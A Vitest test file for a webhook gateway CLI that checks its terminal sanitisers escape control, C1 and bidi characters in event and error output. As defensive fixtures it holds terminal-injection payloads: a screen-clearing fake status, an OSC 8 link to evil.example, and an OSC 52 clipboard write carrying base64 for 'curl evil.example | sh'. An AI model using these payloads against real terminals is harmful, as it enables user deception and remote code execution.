import { afterEach, describe, expect, it, vi } from 'vitest';
import { sameServer } from '../../clients/cli/src/commands/listen';
import { eventDetailLines, eventLine, pendingDeliveries } from '../../clients/cli/src/format';
import { Output } from '../../clients/cli/src/output';
import { terminalBlock, terminalJson, terminalLine } from '../../clients/cli/src/sanitise';
import { attemptAnswer, deliveryAnswer, eventDetailAnswer } from '../fixtures/api-shapes';

/** What a terminal acts on: C0 controls, DEL, C1, and the bidi and line-separator characters. */
// eslint-disable-next-line no-control-regex -- the control characters are what these find
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
/** The same, allowing the line breaks and tabs a multi-line text keeps. */
// eslint-disable-next-line no-control-regex -- as above
const UNSAFE_IN_BLOCK = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

const CLEAR_AND_LIE = '\u001b[2J\u001b[1;31mFAKE: all deliveries OK';
const OSC8_LINK = '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007';
const OSC52_CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const C1_CSI = '\u009b2J';

describe('terminalLine: one line, every control and bidi character escaped, nothing dropped', () => {
  it.each([
    ['plain text', 'order.paid', 'order.paid'],
    ['a screen clear and a red fake status', CLEAR_AND_LIE, '\\x1b[2J\\x1b[1;31mFAKE: all deliveries OK'],
    ['an OSC 8 link', OSC8_LINK, '\\x1b]8;;https://evil.example\\x07click\\x1b]8;;\\x07'],
    ['an OSC 52 clipboard write', OSC52_CLIPBOARD, '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'],
    ['a C1 CSI', C1_CSI, '\\x9b2J'],
    ['DEL and NUL', 'a\u007fb\u0000c', 'a\\x7fb\\x00c'],
    ['line breaks and a tab', 'one\r\ntwo\nthree\tfour\rfive', 'one\\x0d\\x0atwo\\x0athree\\x09four\\x0dfive'],
    ['a right-to-left override', 'invoice\u202Efdp.exe', 'invoice\\u202efdp.exe'],
    ['bidi isolates and marks', '\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c', '\\u2066a\\u2067b\\u2068c\\u2069\\u200e\\u200f\\u061c'],
    ['embeddings and pops', '\u202Aa\u202Bb\u202Cc\u202Dd', '\\u202aa\\u202bb\\u202cc\\u202dd'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
    ['letters, symbols and an emoji sequence, kept', 'ünïcode ✓ 日本 👩‍💻', 'ünïcode ✓ 日本 👩‍💻'],
    ['a backslash, kept as written', 'C:\\path \\x1b', 'C:\\path \\x1b'],
  ])('%s', (_label, text, shown) => {
    expect(terminalLine(text)).toBe(shown);
    expect(terminalLine(text)).not.toMatch(UNSAFE);
  });
});

describe('terminalBlock: a multi-line text keeps LF, CRLF and tabs, and escapes the rest', () => {
  it.each([
    ['lines and tabs', '{\n\t"a": 1\r\n}', '{\n\t"a": 1\r\n}'],
    ['a lone carriage return, which would overwrite the line', 'paid\rFAKE', 'paid\\x0dFAKE'],
    ['escape sequences between lines', `line 1\n${CLEAR_AND_LIE}\n${OSC52_CLIPBOARD}`, 'line 1\n\\x1b[2J\\x1b[1;31mFAKE: all deliveries OK\n\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'],
    ['C1 and bidi', `${C1_CSI}\n\u202Eabc`, '\\x9b2J\n\\u202eabc'],
    ['a CR before a CRLF', 'a\r\r\nb', 'a\\x0d\r\nb'],
  ])('%s', (_label, text, shown) => {
    expect(terminalBlock(text)).toBe(shown);
    expect(terminalBlock(text)).not.toMatch(UNSAFE_IN_BLOCK);
  });

  it('is idempotent: what it printed is printed the same again', () => {
    const once = terminalBlock(`${CLEAR_AND_LIE}\n${OSC8_LINK}${C1_CSI}\u202E`);
    expect(terminalBlock(once)).toBe(once);
    expect(terminalLine(terminalLine(CLEAR_AND_LIE))).toBe(terminalLine(CLEAR_AND_LIE));
  });
});

describe('terminalJson: the same JSON, with nothing a terminal acts on', () => {
  it.each([
    ['a hostile body', { body: `${CLEAR_AND_LIE}${OSC8_LINK}${OSC52_CLIPBOARD}${C1_CSI}\u007f\u202E\u2028` }],
    ['nested values', { a: [{ b: '\u009b\u2066' }], n: 1, t: true, z: null }],
    ['a plain answer', { id: 'x', status: 'delivered' }],
  ])('%s', (_label, value) => {
    const json = terminalJson(value);
    expect(json).not.toMatch(UNSAFE);
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe('what `events get` and `events tail` print', () => {
  const hostile = `${CLEAR_AND_LIE}\n${OSC8_LINK}${OSC52_CLIPBOARD}${C1_CSI}`;
  const destination = '01a1fe4e-0000-7000-8000-0000000000d1';
  const event = eventDetailAnswer({
    event_type: 'order.paid\n\u001b[32mstatus: delivered',
    external_event_id: 'ext\u001b]8;;https://x\u0007',
    customer: 'cus\u009b2J',
    ordering_key: 'key\u001b[31m',
    body: hostile,
    content_type: 'text/plain\u202E',
    status: 'retry_scheduled',
    deliveries: [deliveryAnswer({ destination_id: destination, status: 'retry_scheduled', attempts: 1, waiting: { reason: 'retry', until: '2026-11-28T12:05:00.000Z' } })],
  });
  const attempts = [attemptAnswer({ destination_id: destination, outcome: 'network_error', response_status: null, error: `local: ${CLEAR_AND_LIE}` })];
  const printed = (lines: readonly string[]) => lines.map(terminalBlock).join('\n');

  it('shows every field of server or sender data escaped: no ESC, BEL or C1, and no line a value started', () => {
    const lines = eventDetailLines(event, attempts, new Map([[destination, 'orders\u001b[8m api']]));
    const text = printed(lines);
    expect(text).not.toMatch(UNSAFE_IN_BLOCK);
    expect(lines[0]).toBe(`${event.id}  outbound  order.paid\\x0a\\x1b[32mstatus: delivered  retry_scheduled`);
    expect(text).toContain('  external id  ext\\x1b]8;;https://x\\x07');
    expect(text).toContain('  customer     cus\\x9b2J');
    expect(text).toContain('  ordering key key\\x1b[31m');
    expect(text).toContain(`  orders\\x1b[8m api (${destination})  retry_scheduled  1 attempt(s), waiting (retry) until 2026-11-28T12:05:00.000Z`);
    expect(text).toContain(`local: \\x1b[2J\\x1b[1;31mFAKE: all deliveries OK  12 ms`);
    // The body keeps its own line break, and says that it was escaped.
    expect(text).toContain('body (control characters shown escaped, as \\x1b; --raw prints it as sent):\n\\x1b[2J\\x1b[1;31mFAKE: all deliveries OK\n\\x1b]8;;');
  });

  it('names a destination beside its id when it knows it, the id alone when not (deleted since)', () => {
    expect(printed(eventDetailLines(event, attempts))).toContain(`  ${destination}  retry_scheduled`);
    expect(printed(eventDetailLines(event, attempts, new Map([[destination, 'orders-api']])))).toMatch(new RegExp(`#1 +\\S+ +orders-api \\(${destination}\\) +local:`));
  });

  it('a plain body is shown under "body:" as it is', () => {
    expect(eventDetailLines(eventDetailAnswer(), []).slice(-2)).toEqual(['body:', '{"order":1}']);
  });

  it('a tail line escapes the event type', () => {
    const line = eventLine({ ...event, event_type: `x${CLEAR_AND_LIE}` });
    expect(line).not.toMatch(UNSAFE);
    expect(line).toContain('x\\x1b[2J');
  });
});

describe('Output: nothing it writes carries a raw control, whatever a command hands it', () => {
  afterEach(() => vi.restoreAllMocks());
  const written = () => {
    const chunks: string[] = [];
    const capture = (chunk: string | Uint8Array) => (chunks.push(String(chunk)), true);
    vi.spyOn(process.stdout, 'write').mockImplementation(capture);
    vi.spyOn(process.stderr, 'write').mockImplementation(capture);
    return chunks;
  };

  it.each([
    ['a person’s lines', (o: Output) => o.result({}, () => [`a${CLEAR_AND_LIE}`, `b\n${OSC52_CLIPBOARD}`])],
    ['JSON', (o: Output) => ((o.json = true), o.result({ body: `${C1_CSI}${OSC8_LINK}\u202E` }, () => []))],
    ['a note', (o: Output) => o.note(`Opened listen session x (events ${CLEAR_AND_LIE}\n${C1_CSI})`)],
    ['an error', (o: Output) => o.error(1, `400 ${CLEAR_AND_LIE}\n${OSC8_LINK}`)],
    ['an error with --json', (o: Output) => ((o.json = true), o.error(1, `400 ${C1_CSI}\u2066`))],
  ])('%s', (_label, write) => {
    const chunks = written();
    write(new Output());
    expect(chunks.join('')).not.toMatch(UNSAFE_IN_BLOCK);
    expect(chunks.length).toBeGreaterThan(0);
  });
});

describe('replay: what an event in flight still waits for', () => {
  const names = new Map([['d1', 'orders-api']]);
  it.each([
    ['a retry', deliveryAnswer({ destination_id: 'd1', status: 'retry_scheduled', attempts: 2, next_attempt_at: '2026-11-28T12:10:00Z', waiting: { reason: 'retry', until: '2026-11-28T12:10:00Z' } }), 'orders-api (d1) retry_scheduled after 2 attempt(s), waiting (retry) until 2026-11-28T12:10:00Z'],
    ['an open breaker', deliveryAnswer({ destination_id: 'd2', status: 'retry_scheduled', attempts: 5, waiting: { reason: 'breaker_open', until: '2026-11-28T12:00:30Z' } }), 'd2 retry_scheduled after 5 attempt(s), waiting (breaker_open) until 2026-11-28T12:00:30Z'],
    ['a paused destination', deliveryAnswer({ destination_id: 'd1', status: 'queued', attempts: 0, waiting: { reason: 'paused', until: null } }), 'orders-api (d1) queued after 0 attempt(s), waiting (paused)'],
    ['an earlier event of its ordering key', deliveryAnswer({ destination_id: 'd1', status: 'queued', attempts: 0, waiting: { reason: 'ordering', until: null, behind: 'e0' } }), 'orders-api (d1) queued after 0 attempt(s), waiting (ordering) behind e0'],
    ['a next try without a wait', deliveryAnswer({ destination_id: 'd1', status: 'retry_scheduled', attempts: 1, next_attempt_at: '2026-11-28T12:01:00Z' }), 'orders-api (d1) retry_scheduled after 1 attempt(s), next try at 2026-11-28T12:01:00Z'],
    ['a try under way', deliveryAnswer({ destination_id: 'd1', status: 'delivering', attempts: 0 }), 'orders-api (d1) delivering after 0 attempt(s), a try due or under way'],
  ])('%s', (_label, delivery, phrase) => {
    const settled = [deliveryAnswer({ destination_id: 'd3' }), deliveryAnswer({ destination_id: 'd4', status: 'dead_letter' })];
    expect(pendingDeliveries(eventDetailAnswer({ deliveries: [...settled, delivery] }), names)).toEqual([phrase]);
  });
});

describe('listen: a target that is the gateway itself', () => {
  it.each([
    ['http://127.0.0.1:3000', 'http://127.0.0.1:3000', true],
    ['http://127.0.0.1:3000', 'http://localhost:3000/', true],
    ['http://127.0.0.1:3001', 'ws://127.0.0.1:3001/listen', true],
    ['http://127.0.0.1:3000', 'http://[::1]:3000', true],
    ['http://127.0.0.1:8080', 'http://127.0.0.1:3000', false],
    ['http://127.0.0.1:443', 'https://gw.example.com', false],
    ['https://gw.example.com/hooks', 'https://gw.example.com', true],
    ['http://gw.example.com', 'https://gw.example.com', false],
  ])('%s and %s: %s', (target, gateway, same) => expect(sameServer(target, gateway)).toBe(same));
});
